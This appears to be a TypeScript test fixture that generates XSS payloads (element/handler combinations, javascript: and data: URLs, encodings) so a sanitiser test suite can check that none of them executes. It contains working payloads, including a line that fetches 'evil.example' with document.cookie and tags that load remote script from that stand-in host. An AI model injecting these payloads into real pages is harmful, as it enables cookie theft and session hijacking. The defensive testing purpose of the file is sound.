/**
 * Text as an attacker writes it who wants a page to run something: our own, made by rule, the same in every run. Each is meant to set `window.__hit`, to open a
 * dialog or to fetch from `evil.example`; the tests look for all three. The Big List of Naughty Strings is added where it lies beside the repository.
 */
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { attributeEscapes, codeContexts, documentEscapes, invisible, markdown, mutations, sheets, templates } from './payload-shapes.ts'
import { disguises } from './payload-spellings.ts'

const NAUGHTY = join(import.meta.dirname, '../../../shared/data/security/blns.json')

const CODES = [
  '__hit=1',
  'alert(1)',
  'window.__hit=document.domain',
  "fetch('//evil.example/'+document.cookie)",
  'alert`1`',
  'top[`al`+`ert`](1)',
]
const ELEMENTS = [
  ...[
    'img src=x',
    'img src=//evil.example/x.png',
    'svg',
    'svg/',
    'body',
    'video src=x',
    'audio src=x',
    'video><source',
    'iframe',
    'iframe src=//evil.example',
  ],
  ...[
    'object data=x',
    'embed src=x',
    'input autofocus',
    'select autofocus',
    'textarea autofocus',
    'button autofocus',
    'keygen autofocus',
    'details open',
  ],
  ...[
    'details open ontoggle=1',
    'marquee',
    'math',
    'math><mtext',
    'svg><animate',
    'svg><set',
    'svg><g',
    'svg><image href=x',
    'svg><use href=x',
    'svg><foreignObject',
  ],
  ...[
    'link rel=stylesheet href=//evil.example',
    'style',
    'script src=x',
    'form',
    'a href=# tabindex=1 autofocus',
    'p contenteditable autofocus',
    'dialog open',
    'portal src=//evil.example',
  ],
  ...[
    'bgsound src=x',
    'frameset',
    'table background=x',
    'isindex type=image src=1',
    'custom-element',
    'x',
    'image src=x',
    'picture><img src=x',
    'track src=x',
    'meta',
  ],
]
const HANDLERS = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onanimationstart',
    'onbegin',
    'onpointerenter',
    'onpageshow',
    'onresize',
    'onscrollend',
  ],
  ...['onbeforematch', 'onfocusin', 'ontransitionrun', 'oncontentvisibilityautostatechange'],
]
/** How the handler's value is put after its name. */
const ASSIGNMENTS: readonly ((handler: string, code: string) => string)[] = [
  (handler, code) => ` ${handler}=${code}`,
  (handler, code) => ` ${handler}="${code}"`,
  (handler, code) => `/${handler}='${code}'/`,
  (handler, code) => `\n${handler}\n=\n"${code}" x="`,
  (handler, code) => `\t${handler.toUpperCase()}\f=${code}//`,
  (handler, code) => ` x=y${String.fromCharCode(0)} ${handler}=${code}`,
  (handler, code) => ` '"${handler}=${code} `,
]

const URL_PLACES: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">read more</a>`,
  (url) => `<a href=${url}>read more`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<a href='${url}'>x</a>">`,
  (url) => `<form action="${url}"><input type=submit autofocus></form>`,
  (url) => `<button form=f formaction="${url}">go</button>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<link rel="import" href="${url}">`,
  (url) => `<link rel=preload as=script href="${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
  (url) => `<svg><animate xlink:href=#l attributeName=href values="${url}" /></svg>`,
  (url) => `<svg><script href="${url}" /></svg>`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<img src="${url}" srcset="${url} 2x">`,
  (url) => `<area href="${url}" shape=default>`,
  (url) => `<video poster="${url}"><source src="${url}"></video>`,
  (url) => `<body background="${url}">`,
  (url) => `<div style="background:url('${url}')">x</div>`,
  (url) => url,
  (url) => `See ${url} for more.`,
  (url) => `[more](${url})`,
]
const URLS = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:__hit=1',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    ' javascript:alert(1)',
    'javascript&colon;alert(1)',
  ],
  ...[
    '&#106;avascript:alert(1)',
    '&#x6A;avascript&#x3A;alert(1)',
    'javascript://%0aalert(1)',
    'javascript:%61lert(1)',
    "javascript:'<script>alert(1)</script>'",
    'vbscript:msgbox(1)',
  ],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg/onload=alert(1)>',
    'blob:null/x',
  ],
  ...[
    '//evil.example/x',
    '\\\\evil.example\\x',
    'https:evil.example',
    'https://evil.example/x?q=<script>',
    '/\\evil.example',
    'view-source:javascript:1',
    'filesystem:x',
    'feed:javascript:alert(1)',
  ],
]

const BASES = [
  '<script>__hit=1</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=__hit=1>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>parent.__hit=1</script>">',
  '"onfocus=__hit=1 autofocus x="',
  "'onmouseover='alert(1)",
  '<details open ontoggle=__hit=1>',
  '<style>@import"//evil.example"</style>',
  '<input onfocus=alert(1) autofocus>',
  '<base href=//evil.example>',
  '<script src=//evil.example/x.js></script>',
]

/** Every element with every handler, whose code and way of being put take turns. */
function handled(): string[] {
  return ELEMENTS.flatMap((element, e) =>
    HANDLERS.map((handler, h) => {
      const assign = ASSIGNMENTS[(e + h) % ASSIGNMENTS.length] as (typeof ASSIGNMENTS)[number]
      return `<${element}${assign(handler, CODES[(e * 5 + h) % CODES.length] as string)}>`
    }),
  )
}

const FAMILIES: Readonly<Record<string, () => readonly string[]>> = {
  bare: () => [...BASES, ...CODES.map((code) => `<script>${code}</script>`)],
  handlers: handled,
  addresses: () => URLS.flatMap((url) => URL_PLACES.map((place) => place(url))),
  disguises: () => BASES.flatMap((base) => disguises(base)),
  attributes: () => BASES.flatMap((base) => attributeEscapes(base)),
  documents: () => BASES.flatMap((base) => documentEscapes(base)),
  code: () => CODES.flatMap((code) => codeContexts(code)),
  templates: () => CODES.flatMap((code) => templates(code)),
  mutations: () => CODES.flatMap((code) => mutations(code)),
  sheets,
  markdown: () => URLS.slice(0, 8).flatMap((url) => markdown(url)),
  invisible: () => BASES.flatMap((base) => invisible(base)),
}

/** By family, to be counted. */
export const PAYLOAD_FAMILIES: ReadonlyMap<string, readonly string[]> = new Map(
  Object.entries(FAMILIES).map(([name, make]) => [name, make()]),
)
/** Ours, each once. */
export const PAYLOADS: readonly string[] = [...new Set([...PAYLOAD_FAMILIES.values()].flat())]

/** Empty where the list is not there. */
export const NAUGHTY_STRINGS: readonly string[] = existsSync(NAUGHTY)
  ? [...new Set(JSON.parse(readFileSync(NAUGHTY, 'utf8')) as readonly string[])].filter((text) => text.trim() !== '')
  : []

export const ALL_PAYLOADS: readonly string[] = [...new Set([...PAYLOADS, ...NAUGHTY_STRINGS])]
